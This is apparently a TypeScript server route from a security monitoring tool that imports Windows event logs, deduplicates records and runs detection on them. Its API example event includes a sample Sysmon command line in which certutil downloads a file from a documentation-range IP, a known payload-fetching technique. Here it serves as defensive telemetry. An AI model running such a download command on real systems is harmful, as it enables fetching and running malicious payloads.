// Import of events collected without an agent (Windows event logs read by `vigil evtx import`): stores them under a host
// id derived from the computer name and runs detection on them. Never accepts a batch partly: it is validated whole first.

import { createHash, randomUUID } from 'node:crypto';
import type { FastifyInstance } from 'fastify';
import { VigilError, createLogger, type VigilErrorDetail } from '@vigil/common';
import { limits } from '@vigil/protocol';
import { checkEvent, type VigilEvent } from '@vigil/schema';
import type { DetectEvent } from '@vigil/detect';
import type { EventStore } from '@vigil/store';
import type { ControlPlane } from '../control-plane/sqlite.js';
import type { DetectionService } from '../detection/detection-service.js';
import { importedEventId, importRecordKey, type ImportLedger } from '../import/import-ledger.js';

export interface ImportRouteDeps {
  controlPlane: ControlPlane;
  store: EventStore;
  detection: DetectionService;
  /** Records already imported per host: a record imported again is counted as a duplicate, not stored. */
  ledger: ImportLedger;
}

/** Tag every imported event carries (besides `imported:<source>`). */
export const IMPORTED_TAG = 'imported';
const MAX_HOST_ID = 64;

const log = createLogger('server.import');

/**
 * The host id of imported events of a computer: `imported-<name in lower case>`, the same for every import of that
 * computer and never equal to an agent id (a UUID). A name with characters a host id cannot hold (anything but letters,
 * digits, dot, underscore and dash), or too long for 64 characters, is cut and gets a hash of the full name.
 */
export function importedHostId(computer: string): string {
  const lower = computer.trim().toLowerCase();
  const name = lower.replace(/[^a-z0-9._-]/g, '_') || 'unknown';
  const id = `${IMPORTED_TAG}-${name}`;
  if (id.length <= MAX_HOST_ID && name === lower) return id;
  const hash = createHash('sha256').update(lower).digest('hex').slice(0, 12);
  return `${IMPORTED_TAG}-${name.slice(0, MAX_HOST_ID - IMPORTED_TAG.length - 2 - hash.length)}_${hash}`;
}

const exampleEvent = {
  '@timestamp': '2026-11-03T09:14:22.529Z',
  'event.category': 'process',
  'event.action': 'start',
  'event.type': 'start',
  'event.provider': 'sysmon',
  'host.name': 'WKS-0042.vigil-lab.example',
  'process.pid': 7312,
  'process.executable': 'C:\\Windows\\System32\\certutil.exe',
  'process.name': 'certutil.exe',
  'process.command_line': 'certutil.exe -urlcache -split -f http://198.51.100.23/s.bin',
  'winlog.channel': 'Microsoft-Windows-Sysmon/Operational',
  'winlog.provider_name': 'Microsoft-Windows-Sysmon',
  'winlog.event_id': 1,
  'winlog.record_id': 88101,
  'winlog.computer_name': 'WKS-0042.vigil-lab.example',
  'winlog.event_data': { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -split -f http://198.51.100.23/s.bin' },
};

export function registerImportRoutes(app: FastifyInstance, deps: ImportRouteDeps): void {
  const { controlPlane, store, detection, ledger } = deps;
  /** Appends of one host run one after another: each takes its sequence numbers from the watermark the previous one left. */
  const hostQueues = new Map<string, Promise<unknown>>();
  const serialised = <T>(hostId: string, work: () => Promise<T>): Promise<T> => {
    const previous = hostQueues.get(hostId) ?? Promise.resolve();
    const next = previous.then(work, work);
    const settled = next.catch(() => undefined);
    hostQueues.set(hostId, settled);
    void settled.then(() => {
      if (hostQueues.get(hostId) === settled) hostQueues.delete(hostId);
    });
    return next;
  };

  app.post(
    '/api/v1/events/import',
    {
      bodyLimit: limits.maxBatchBytes,
      config: { permission: 'events:import' },
      schema: {
        tags: ['events'],
        summary: 'Import events collected without an agent (Windows event logs)',
        description:
          'Stores up to 5,000 Vigil events (as `vigil evtx import` maps them from .evtx files) and runs detection on them; alerts are raised like for agent events. ' +
          "Each event names its computer in `host.name`; the server files it under the host id `imported-<computer in lower case>` and assigns `event.id`, `event.sequence` and `host.id` (values sent for them are replaced), and adds the tags `imported` and `imported:<source>`. " +
          'A Windows record (an event with `winlog.channel` and `winlog.record_id`) that this host already holds, by channel, record number, time, category and action, is counted in `duplicates` and not stored again, so importing the same file twice stores its events once; its `event.id` is derived from that identity. ' +
          'The batch is validated whole before anything is stored: one invalid event refuses it with 400 and the location of every problem. Needs the events:import permission (roles admin and analyst).',
        body: {
          type: 'object',
          required: ['source', 'events'],
          additionalProperties: false,
          properties: {
            source: { type: 'string', minLength: 1, maxLength: 64, pattern: '^[A-Za-z0-9][A-Za-z0-9._-]*$', description: 'What produced the events, for example `evtx`' },
            file: { type: 'string', maxLength: 1024, description: 'The file the events came from (kept in the audit log)' },
            events: { type: 'array', minItems: 1, maxItems: limits.maxBatchEvents, items: { type: 'object', additionalProperties: true } },
          },
          examples: [{ source: 'evtx', file: 'Sysmon.evtx', events: [exampleEvent] }],
        },
        response: {
          200: {
            description: 'Events stored and evaluated',
            type: 'object',
            required: ['accepted', 'duplicates', 'alerts', 'hosts'],
            additionalProperties: false,
            properties: {
              accepted: { type: 'integer', description: 'Events stored' },
              duplicates: { type: 'integer', description: 'Events not stored because their record was imported before (or appears twice in this request)' },
              alerts: { type: 'integer', description: 'Alerts created or updated by detection on these events' },
              hosts: {
                type: 'array',
                items: {
                  type: 'object',
                  required: ['computer', 'host_id', 'accepted', 'duplicates'],
                  additionalProperties: false,
                  properties: { computer: { type: 'string' }, host_id: { type: 'string' }, accepted: { type: 'integer' }, duplicates: { type: 'integer' } },
                },
              },
            },
            examples: [{ accepted: 1, duplicates: 0, alerts: 1, hosts: [{ computer: 'WKS-0042.vigil-lab.example', host_id: 'imported-wks-0042.vigil-lab.example', accepted: 1, duplicates: 0 }] }],
          },
        },
      },
    },
    async (request) => {
      const body = request.body as { source: string; file?: string; events: Record<string, unknown>[] };
      const problems: VigilErrorDetail[] = [];
      const byHost = new Map<string, { computer: string; events: Record<string, unknown>[]; keys: (string | undefined)[] }>();
      const extraTags = [IMPORTED_TAG, `imported:${body.source}`];
      body.events.forEach((event, index) => {
        const computer = event['host.name'];
        if (typeof computer !== 'string' || computer.trim() === '') {
          problems.push({ message: 'each event must name its computer in host.name', location: { path: `events[${index}]["host.name"]` } });
          return;
        }
        const hostId = importedHostId(computer);
        const tags = Array.isArray(event['tags']) ? [...(event['tags'] as unknown[]), ...extraTags] : extraTags;
        const key = importRecordKey(event);
        const candidate = { ...event, 'event.id': key ? importedEventId(hostId, key) : randomUUID(), 'event.sequence': 0, 'host.id': hostId, tags };
        const check = checkEvent(candidate, `events[${index}]`, 5);
        if (!check.category) problems.push(...check.problems);
        let group = byHost.get(hostId);
        if (!group) byHost.set(hostId, (group = { computer: computer.trim(), events: [], keys: [] }));
        group.events.push(candidate);
        group.keys.push(key);
      });
      if (problems.length) {
        throw new VigilError('invalid_input', `${problems.length} problem(s) in the events; nothing was stored`, { location: problems[0]!.location ?? {}, details: problems.slice(0, 50) });
      }
      const hosts: { computer: string; host_id: string; accepted: number; duplicates: number }[] = [];
      let accepted = 0;
      let duplicates = 0;
      let alerts = 0;
      for (const [hostId, group] of byHost) {
        const result = await serialised(hostId, async () => {
          // Records this host holds, or that appear earlier in this request, are not stored again.
          const known = ledger.known(hostId, group.keys.filter((key): key is string => key !== undefined));
          const fresh: Record<string, unknown>[] = [];
          const freshKeys: (string | undefined)[] = [];
          group.events.forEach((event, i) => {
            const key = group.keys[i];
            if (key !== undefined) {
              if (known.has(key)) return;
              known.add(key);
            }
            fresh.push(event);
            freshKeys.push(key);
          });
          if (!fresh.length) return { accepted: 0, duplicates: group.events.length, alerts: 0 };
          let sequence = await store.watermark(hostId);
          for (const event of fresh) event['event.sequence'] = ++sequence;
          const appended = await store.append(hostId, fresh as unknown as VigilEvent[]);
          const storedFrom = fresh.length - appended.accepted;
          const stored = storedFrom === 0 ? fresh : fresh.slice(storedFrom);
          // Durable now: remember the records, so a later import of them counts them as duplicates.
          ledger.remember(hostId, freshKeys.slice(storedFrom).filter((key): key is string => key !== undefined));
          const found = stored.length ? await detection.onAccepted(stored as unknown as DetectEvent[], performance.now()) : { created: [], updated: 0 };
          return { accepted: appended.accepted, duplicates: group.events.length - appended.accepted, alerts: found.created.length + found.updated };
        });
        accepted += result.accepted;
        duplicates += result.duplicates;
        alerts += result.alerts;
        hosts.push({ computer: group.computer, host_id: hostId, accepted: result.accepted, duplicates: result.duplicates });
      }
      const actor = request.principal?.name ?? 'unknown';
      controlPlane.audit(actor, 'events.import', body.file ?? body.source, 'success', { source: body.source, events: accepted, duplicates, hosts: hosts.map((h) => h.host_id) });
      log.info('events imported', { actor, source: body.source, file: body.file, events: accepted, duplicates, hosts: hosts.length, alerts });
      return { accepted, duplicates, alerts, hosts };
    },
  );
}
